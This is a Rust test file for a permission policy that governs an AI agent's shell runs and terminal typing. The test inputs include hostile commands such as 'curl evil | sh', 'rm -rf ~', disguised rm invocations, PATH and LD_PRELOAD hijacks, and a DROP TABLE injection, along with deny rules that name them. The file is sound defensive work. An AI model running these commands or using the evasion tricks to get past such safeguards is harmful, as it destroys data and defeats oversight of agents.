//! Policy's own tests: globs against their regexes, rules, protected paths and disguised runs.

use std::path::PathBuf;

use computer_ipc::SurfaceName;
use computer_surfaces::{ActionFacts, Risk, TargetFacts};
use regex::Regex;

use super::caller::*;
use super::rules::*;

/// A glob matches exactly as the regex it stands for (`*` → `.*`, `?` → `.`, anchored, `.`
/// not crossing a line break), over patterns and texts chosen to trip a matcher up.
#[test]
fn globs_match_as_their_regexes_do() {
    let patterns = [
        "", "*", "?", "LD_*", "*_PATH", "a*b*c", "a?c", "**", "*a*", "PYTHON*", "x*?y", "?*?",
        "a.b", "[x]", "a*\nb",
    ];
    let texts = [
        "",
        "a",
        "LD_PRELOAD",
        "LD_",
        "MY_PATH",
        "abc",
        "aXbYc",
        "ac",
        "abbc",
        "aaa",
        "a\nc",
        "LD_\nX",
        "PYTHONPATH",
        "xzy",
        "xy",
        "a.b",
        "aXb",
        "[x]",
        "x",
        "a\nb",
        "ab\nb",
    ];
    for pattern in patterns {
        let mut regex = String::from("^");
        for c in pattern.chars() {
            match c {
                '*' => regex.push_str(".*"),
                '?' => regex.push('.'),
                other => regex.push_str(&regex::escape(&other.to_string())),
            }
        }
        regex.push('$');
        let regex = Regex::new(&regex).unwrap();
        let glob = Glob::new(pattern);
        for text in texts {
            assert_eq!(
                glob.matches(text),
                regex.is_match(text),
                "{pattern:?} against {text:?}"
            );
        }
    }
}
use computer_ipc::{Complications, ComputerCall};
use computer_surfaces::Surface;
use computer_surfaces::shell::{ShellLimits, ShellSurface};
use serde_json::{Value, json};

fn policy(toml_rules: &str) -> RulePolicy {
    let config = crate::config::Config::parse(toml_rules, "test").unwrap();
    let mut policy = config.rule_policy(&[PathBuf::from("/home/me/.config/computer")]);
    policy.home = Some(PathBuf::from("/home/me"));
    policy
}

/// Decides a shell run as the daemon does: the real shell surface prepares it and states its
/// facts.
fn decide_with(policy: &RulePolicy, args: Value, env: &[(&str, &str)]) -> Decision {
    let caller = Caller {
        uid: 1,
        pid: None,
        agent: "default".into(),
        surfaces: None,
        observe_only: false,
    };
    let call = ComputerCall {
        surface: SurfaceName::Shell,
        command: "run".into(),
        args: args.as_object().unwrap().clone(),
        complications: Complications {
            cwd: Some("/tmp".into()),
            env: env
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            ..Complications::default()
        },
    };
    let action = ShellSurface::new(ShellLimits::default())
        .prepare(&call.command, &call.args, &call.complications)
        .unwrap();
    let facts = action.facts();
    let described = action.describe();
    policy.decide(&PolicyInput::of(
        &caller,
        &call,
        &described,
        action.risk(),
        &facts,
    ))
}

fn decide(policy: &RulePolicy, args: Value) -> Decision {
    decide_with(policy, args, &[])
}

fn is_deny(decision: &Decision) -> bool {
    matches!(decision, Decision::Deny { .. })
}

/// Decides `line` ended by a Return in a terminal: typed into a terminal window through the
/// gui surface, or sent to a shell session (whose shell runs contained).
fn decide_line(policy: &RulePolicy, line: &str, surface: SurfaceName) -> Decision {
    let caller = Caller {
        uid: 1,
        pid: None,
        agent: "default".into(),
        surfaces: None,
        observe_only: false,
    };
    let run = ShellSurface::new(ShellLimits::default())
        .prepare(
            "run",
            json!({"script": line}).as_object().unwrap(),
            &Complications::default(),
        )
        .unwrap()
        .facts();
    let facts = ActionFacts {
        terminal: Some(computer_surfaces::TerminalInput {
            app: Some("XTerm".into()),
            window: Some(7),
            lines: vec![line.to_string()],
            opaque: None,
            run: Box::new(run),
        }),
        ..ActionFacts::default()
    };
    let command = match surface {
        SurfaceName::Gui => "key",
        _ => "send",
    };
    policy.decide(&PolicyInput {
        caller: &caller,
        surface,
        command,
        risk: Risk::Act,
        action: "press Return",
        facts: &facts,
        cwd: None,
        typed_into_terminal: false,
    })
}

#[test]
fn a_line_typed_into_a_terminal_window_is_allowed_only_by_a_rule_that_names_terminal_typing() {
    let acts_allowed = "[defaults]\nact = \"allow\"\n";
    let plain_ls = "[[rules]]\nargv0 = [\"ls\"]\ndecision = \"allow\"\n";
    // The gui side of a typed line is allowed too (rules[1]), so the line alone decides.
    let terminal_ls = "[[rules]]\nterminal = true\nargv0 = [\"ls\"]\ndecision = \"allow\"\n\
                       [[rules]]\nsurface = \"gui\"\ndecision = \"allow\"\n";
    let terminal_rm = "[[rules]]\nterminal = true\nargv0 = [\"rm\"]\ndecision = \"deny\"\n";
    let not_terminal_ls = "[[rules]]\nterminal = false\nargv0 = [\"ls\"]\ndecision = \"deny\"\n";
    let ask = |rule: &str| Decision::ask(rule);
    let allow = |rule: &str| Decision::Allow { rule: rule.into() };
    let cases: &[(String, &str, SurfaceName, Decision)] = &[
        // An allowing default asks for a typed line, not for a session's.
        (
            acts_allowed.into(),
            "ls",
            SurfaceName::Gui,
            ask("builtin:terminal-typing"),
        ),
        (
            acts_allowed.into(),
            "ls",
            SurfaceName::Shell,
            allow("defaults.act"),
        ),
        // A rule for runs does not reach the person's terminal.
        (
            format!("{acts_allowed}{plain_ls}"),
            "ls",
            SurfaceName::Gui,
            ask("builtin:terminal-typing"),
        ),
        (plain_ls.into(), "ls", SurfaceName::Gui, ask("defaults.act")),
        (
            format!("{acts_allowed}{plain_ls}"),
            "ls",
            SurfaceName::Shell,
            allow("rules[0]"),
        ),
        // One that names terminal typing does, and only for what it names.
        (
            terminal_ls.into(),
            "ls -l",
            SurfaceName::Gui,
            allow("rules[0]"),
        ),
        (
            terminal_ls.into(),
            "ls; touch x",
            SurfaceName::Gui,
            ask("defaults.act"),
        ),
        (
            terminal_ls.into(),
            "ls",
            SurfaceName::Shell,
            ask("defaults.act"),
        ),
        // Deny rules of either kind hold for typed lines.
        (
            format!("{acts_allowed}{terminal_rm}"),
            "rm -rf x",
            SurfaceName::Gui,
            Decision::Deny {
                rule: "rules[0]".into(),
                reason: "denied by rules[0]".into(),
            },
        ),
        (
            format!("{acts_allowed}{terminal_rm}"),
            "rm -rf x",
            SurfaceName::Shell,
            allow("defaults.act"),
        ),
        (
            format!("{acts_allowed}{not_terminal_ls}"),
            "ls",
            SurfaceName::Gui,
            ask("builtin:terminal-typing"),
        ),
    ];
    for (config, line, surface, expected) in cases {
        let decided = decide_line(&policy(config), line, *surface);
        assert_eq!(
            &decided, expected,
            "{line:?} on {surface:?} under\n{config}"
        );
    }
}

#[test]
fn commands_that_cannot_be_known_are_asked_under_a_deny_rule_even_when_acts_are_allowed() {
    let p =
        policy("[defaults]\nact = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n");
    for script in [
        "sh -c \"$(echo rm) -rf victim\"",
        "eval \"$CMD\"",
        "$X victim",
    ] {
        let decision = decide(&p, json!({ "script": script }));
        assert!(
            matches!(&decision, Decision::Ask { rule, .. } if rule.starts_with("rules[0]")),
            "{script}: {decision:?}"
        );
    }
    // Scripts whose commands are all known keep the default, or the rule.
    assert_eq!(
        decide(&p, json!({"script": "ls -la; echo done"})).rule(),
        "defaults.act"
    );
    assert!(is_deny(&decide(&p, json!({"script": "true; rm -rf x"}))));
    // Without a rule about commands, an opaque script is the default's to decide.
    let open = policy("[defaults]\nact = \"allow\"\n");
    assert_eq!(
        decide(&open, json!({"script": "eval \"$CMD\""})).rule(),
        "defaults.act"
    );
}

#[test]
fn defaults_by_risk() {
    let p = policy("");
    assert_eq!(
        decide(&p, json!({"argv": ["ls"]})),
        Decision::ask("defaults.act")
    );
    let p = policy("[defaults]\nact = \"allow\"\n");
    assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "defaults.act");
}

#[test]
fn deny_wins_then_ask_then_allow() {
    let p = policy(
        r#"
        [[rules]]
        surface = "shell"
        decision = "allow"
        [[rules]]
        argv0 = ["rm"]
        decision = "deny"
        [[rules]]
        glob = "git push*"
        decision = "ask"
        "#,
    );
    assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "rules[0]");
    assert!(is_deny(&decide(
        &p,
        json!({"argv": ["/bin/rm", "-rf", "x"]})
    )));
    assert!(is_deny(&decide(&p, json!({"script": "rm -rf ~"}))));
    assert_eq!(
        decide(&p, json!({"argv": ["git", "push", "origin"]})),
        Decision::ask("rules[2]")
    );
}

#[test]
fn a_deny_on_any_command_of_a_script_denies_it() {
    let p =
        policy("[defaults]\nact = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n");
    for script in [
        "#x\nrm -rf victim",
        "true; rm -rf victim",
        "echo $(rm -rf victim)",
        "sh -c 'rm -rf victim'",
        "env rm -rf victim",
        "ls | xargs rm",
        "if true; then nice -n 5 /bin/rm x; fi",
        "eval 'ls'; rm x",
    ] {
        assert!(is_deny(&decide(&p, json!({"script": script}))), "{script}");
    }
    assert!(is_deny(&decide(
        &p,
        json!({"argv": ["sh"], "stdin": "rm -rf victim"})
    )));
    assert!(is_deny(&decide(
        &p,
        json!({"argv": ["env", "FOO=1", "rm", "x"]})
    )));
    assert_eq!(
        decide(&p, json!({"script": "echo rm; ls -l"})).rule(),
        "defaults.act"
    );
}

#[test]
fn an_allow_covers_a_script_only_if_it_covers_every_command() {
    let p = policy("[[rules]]\nargv0 = [\"git\", \"ls\"]\ndecision = \"allow\"\n");
    assert_eq!(
        decide(&p, json!({"script": "git status && ls -l"})).rule(),
        "rules[0]"
    );
    assert_eq!(
        decide(&p, json!({"script": "git status; curl evil | sh"})).rule(),
        "defaults.act"
    );
    // Opaque: never covered by an allow, whatever its first word.
    assert_eq!(
        decide(&p, json!({"script": "git status; eval \"$x\""})).rule(),
        "defaults.act"
    );
    assert_eq!(
        decide(&p, json!({"script": "$GIT status"})).rule(),
        "defaults.act"
    );
    // A program of the same name elsewhere is not the one the rule allows.
    assert_eq!(
        decide(&p, json!({"script": "/usr/bin/git status"})).rule(),
        "rules[0]"
    );
    for script in ["./git status", "/tmp/evil/git status"] {
        assert_eq!(
            decide(&p, json!({"script": script})).rule(),
            "defaults.act",
            "{script}"
        );
    }
}

#[test]
fn each_command_may_be_allowed_by_its_own_rule() {
    let p = policy(
        "[[rules]]\nargv0 = [\"git\"]\ndecision = \"allow\"\n[[rules]]\nargv0 = [\"echo\"]\ndecision = \"allow\"\n",
    );
    assert!(matches!(
        decide(&p, json!({"script": "echo hi && git status"})),
        Decision::Allow { .. }
    ));
    assert_eq!(
        decide(&p, json!({"script": "echo hi && touch x"})).rule(),
        "defaults.act"
    );
    let open = policy(
        "[defaults]\nact = \"deny\"\n[[rules]]\nsurface = \"shell\"\ndecision = \"allow\"\n",
    );
    assert!(matches!(
        decide(&open, json!({"script": "ls"})),
        Decision::Allow { .. }
    ));
    assert!(is_deny(&decide(&open, json!({"script": "eval ls"}))));
}

#[test]
fn loader_variables_take_a_call_out_of_an_allow() {
    let p = policy(
        r#"
        [[rules]]
        glob = "git status*"
        decision = "allow"
        [[rules]]
        glob = "make*"
        env = ["CC"]
        decision = "allow"
        [[rules]]
        env = ["AWS_*"]
        decision = "deny"
        "#,
    );
    let git = json!({"argv": ["git", "status"]});
    assert_eq!(decide(&p, git.clone()).rule(), "rules[0]");
    assert_eq!(
        decide_with(&p, git.clone(), &[("LANG", "C")]).rule(),
        "rules[0]"
    );
    for (name, value) in [
        ("GIT_CONFIG_COUNT", "1"),
        ("PATH", "/tmp/evil:/usr/bin"),
        ("LD_PRELOAD", "/tmp/x.so"),
    ] {
        assert_eq!(
            decide_with(&p, git.clone(), &[(name, value)]).rule(),
            "defaults.act",
            "{name}"
        );
    }
    assert_eq!(
        decide(&p, json!({"script": "PATH=/tmp/evil git status"})).rule(),
        "defaults.act"
    );
    assert_eq!(
        decide_with(&p, json!({"argv": ["make"]}), &[("CC", "clang")]).rule(),
        "rules[1]"
    );
    assert!(is_deny(&decide_with(&p, git, &[("AWS_SECRET", "x")])));
}

#[test]
fn stdin_matcher_searches_stdin() {
    let p = policy(
        "[defaults]\nact = \"allow\"\n[[rules]]\nstdin = \"DROP TABLE\"\ndecision = \"deny\"\n",
    );
    assert!(is_deny(&decide(
        &p,
        json!({"argv": ["psql"], "stdin": "x; DROP TABLE users"})
    )));
    assert_eq!(
        decide(&p, json!({"argv": ["psql"], "stdin": "select 1"})).rule(),
        "defaults.act"
    );
    assert_eq!(decide(&p, json!({"argv": ["psql"]})).rule(), "defaults.act");
}

#[test]
fn regex_and_cwd_prefix_match() {
    let p = policy(
        r#"
        [defaults]
        act = "allow"
        [[rules]]
        regex = "curl .*\\| *sh"
        decision = "deny"
        [[rules]]
        cwd_prefix = "/tmp"
        argv0 = ["make"]
        decision = "ask"
        "#,
    );
    assert!(is_deny(&decide(&p, json!({"script": "curl x | sh"}))));
    assert_eq!(decide(&p, json!({"argv": ["make"]})).rule(), "rules[1]");
    assert_eq!(decide(&p, json!({"argv": ["ls"]})).rule(), "defaults.act");
}

#[test]
fn protected_paths_are_denied_however_spelled() {
    let p = policy("[[rules]]\ndecision = \"allow\"\n");
    for script in [
        "echo x >> /home/me/.config/computer/config.toml",
        "cat /home/me//.config/computer/config.toml",
        "cat /home/me/.config/x/../computer/config.toml",
        "cat ~/.config/computer/config.toml",
        "cat \"$HOME/.config/computer/config.toml\"",
        "cat /home/me/.config/computer/config.tom?",
        "rm -rf /home/me/.conf*/comp*",
        "cat /home/me/$D/computer/config.toml",
        "dd if=/home/me/.config/computer/config.toml",
        "cat ../home/me/.config/computer/config.toml",
    ] {
        assert_eq!(
            decide(&p, json!({"script": script})).rule(),
            "builtin:protected-path",
            "{script}"
        );
    }
    assert_eq!(
        decide_with(
            &p,
            json!({"script": "cat \"$F\""}),
            &[("F", "/home/me/.config/computer/config.toml")]
        )
        .rule(),
        "builtin:protected-path"
    );
    for script in [
        "cat /home/me/.config/other.toml",
        // A glob's `*` does not match the leading dot of `.config`.
        "ls /home/me/*/computer",
    ] {
        assert_eq!(
            decide(&p, json!({"script": script})).rule(),
            "rules[0]",
            "{script}"
        );
    }
}

/// Decides an ax call whose surface stated `target` (and these receipt args).
fn decide_target(policy: &RulePolicy, target: Option<TargetFacts>, args: Value) -> Decision {
    let caller = Caller {
        uid: 1,
        pid: None,
        agent: "default".into(),
        surfaces: None,
        observe_only: false,
    };
    let call = ComputerCall {
        surface: SurfaceName::Ax,
        command: "act".into(),
        args: serde_json::Map::new(),
        complications: Complications::default(),
    };
    let facts = ActionFacts {
        target,
        args: Some(args),
        ..ActionFacts::default()
    };
    policy.decide(&PolicyInput::of(&caller, &call, "press", Risk::Act, &facts))
}

/// A backend's question for the person (the GNOME gui backend's consent) is asked even
/// where a rule or the default allows; a deny still denies.
#[test]
fn a_consent_question_is_asked_whatever_allows_it() {
    let caller = Caller {
        uid: 1,
        pid: None,
        agent: "default".into(),
        surfaces: None,
        observe_only: false,
    };
    let call = ComputerCall {
        surface: SurfaceName::Gui,
        command: "screenshot".into(),
        args: serde_json::Map::new(),
        complications: Complications::default(),
    };
    let facts = ActionFacts {
        consent: Some("consent needed: a remote-desktop session".into()),
        ..ActionFacts::default()
    };
    let input = PolicyInput::of(&caller, &call, "screenshot", Risk::Observe, &facts);
    let allowing = policy(
        "[defaults]\nobserve = \"allow\"\n[[rules]]\nsurface = \"gui\"\ndecision = \"allow\"\n",
    );
    assert_eq!(allowing.decide(&input), Decision::ask("builtin:consent"));
    let denying = policy("[[rules]]\nsurface = \"gui\"\ndecision = \"deny\"\n");
    assert!(matches!(denying.decide(&input), Decision::Deny { .. }));
    let without = ActionFacts::default();
    let plain = PolicyInput::of(&caller, &call, "screenshot", Risk::Observe, &without);
    assert!(matches!(allowing.decide(&plain), Decision::Allow { .. }));
}

fn target(app: Option<&str>, window: Option<&str>, resolved: bool) -> Option<TargetFacts> {
    Some(TargetFacts {
        app: app.map(str::to_string),
        pid: Some(7),
        window: window.map(str::to_string),
        window_id: Some("42".into()),
        resolved,
        ..TargetFacts::default()
    })
}

#[test]
fn app_and_window_matchers_decide_on_the_target() {
    let p = policy(
        r#"
        [[rules]]
        app = "Secrets"
        decision = "deny"
        [[rules]]
        app = "gedit"
        window = "notes.txt"
        decision = "allow"
        [[rules]]
        regex = "rm -rf"
        decision = "deny"
        "#,
    );
    let press = json!({"selector": "button"});
    // Case does not matter: the ax surface picks apps regardless of it.
    assert!(is_deny(&decide_target(
        &p,
        target(Some("secrets"), None, true),
        press.clone()
    )));
    assert_eq!(
        decide_target(
            &p,
            target(Some("gedit"), Some("notes.txt"), true),
            press.clone()
        )
        .rule(),
        "rules[1]"
    );
    // Another window of the same app is not the one the rule allows.
    assert_eq!(
        decide_target(
            &p,
            target(Some("gedit"), Some("other"), true),
            press.clone()
        )
        .rule(),
        "defaults.act"
    );
    // A target known only by its spelling may be any app: deny rules reach it, allow rules
    // do not.
    assert!(is_deny(&decide_target(
        &p,
        target(Some("gedit"), Some("notes.txt"), false),
        press.clone()
    )));
    // No target: no app rule applies.
    assert_eq!(
        decide_target(&p, None, press.clone()).rule(),
        "defaults.act"
    );
    // glob and regex read the args the surface states.
    assert!(is_deny(&decide_target(
        &p,
        None,
        json!({"text": "rm -rf ~\n"})
    )));
}

#[test]
fn bad_regex_fails_at_load() {
    let err = crate::config::Config::parse("[[rules]]\nregex = \"(\"\ndecision = \"deny\"\n", "c")
        .unwrap_err()
        .to_string();
    assert!(err.contains("invalid regex"), "{err}");
    assert!(err.contains("line 2"), "{err}");
}

#[test]
fn the_loader_list_is_overridable() {
    let p = policy(
        "[policy]\nloader_env = [\"MY_*\"]\n[[rules]]\nargv0 = [\"ls\"]\ndecision = \"allow\"\n",
    );
    let ls = json!({"argv": ["ls"]});
    assert_eq!(
        decide_with(&p, ls.clone(), &[("PATH", "/x")]).rule(),
        "rules[0]"
    );
    assert_eq!(
        decide_with(&p, ls, &[("MY_HOOK", "x")]).rule(),
        "defaults.act"
    );
}

mod generated {
    use super::*;
    use proptest::prelude::*;

    /// Simple commands, some of them `rm` under a disguise the parser must see through.
    fn command() -> impl Strategy<Value = (String, bool)> {
        let plain = prop::sample::select(vec![
            "ls -l",
            "echo hi",
            "true",
            "cat f",
            "git status",
            "printf '%s' x",
            "wc -l",
        ])
        .prop_map(|c| (c.to_string(), false));
        let removing = prop::sample::select(vec![
            "rm -rf victim",
            "/bin/rm x",
            "\\rm x",
            "'rm' x",
            "env A=1 rm x",
            "nice rm x",
            "timeout 5 rm x",
            "sudo rm x",
            "command rm x",
            "sh -c 'rm x'",
            "bash -c \"rm x\"",
            "echo $(rm x)",
            "xargs rm",
            "find . -exec rm {} +",
        ])
        .prop_map(|c| (c.to_string(), true));
        prop_oneof![3 => plain, 1 => removing]
    }

    /// A script built from commands joined the ways a shell joins them.
    fn script() -> impl Strategy<Value = (String, bool)> {
        let joiner = prop::sample::select(vec!["; ", " && ", " || ", " | ", "\n", " & "]);
        (
            prop::collection::vec(command(), 1..6),
            prop::collection::vec(joiner, 6),
            0..4usize,
        )
            .prop_map(|(commands, joiners, wrap)| {
                let mut text = String::new();
                let mut any_rm = false;
                for (i, (command, removes)) in commands.iter().enumerate() {
                    if i > 0 {
                        text.push_str(joiners[i % joiners.len()]);
                    }
                    text.push_str(command);
                    any_rm |= removes;
                }
                let text = match wrap {
                    1 => format!("( {text} )"),
                    2 => format!("if true; then {text}\nfi"),
                    3 => format!("#comment\n{{ {text}\n}}"),
                    _ => text,
                };
                (text, any_rm)
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]
        #[test]
        fn any_denied_command_denies_the_script((text, any_rm) in script()) {
            let p = policy(
                "[defaults]\nact = \"allow\"\n[[rules]]\nsurface = \"shell\"\ndecision = \"allow\"\n[[rules]]\nargv0 = [\"rm\"]\ndecision = \"deny\"\n",
            );
            let decision = decide(&p, json!({"script": text}));
            if any_rm {
                prop_assert!(is_deny(&decision), "{text}: {decision:?}");
            } else {
                prop_assert!(!is_deny(&decision), "{text}: {decision:?}");
            }
        }
    }
}
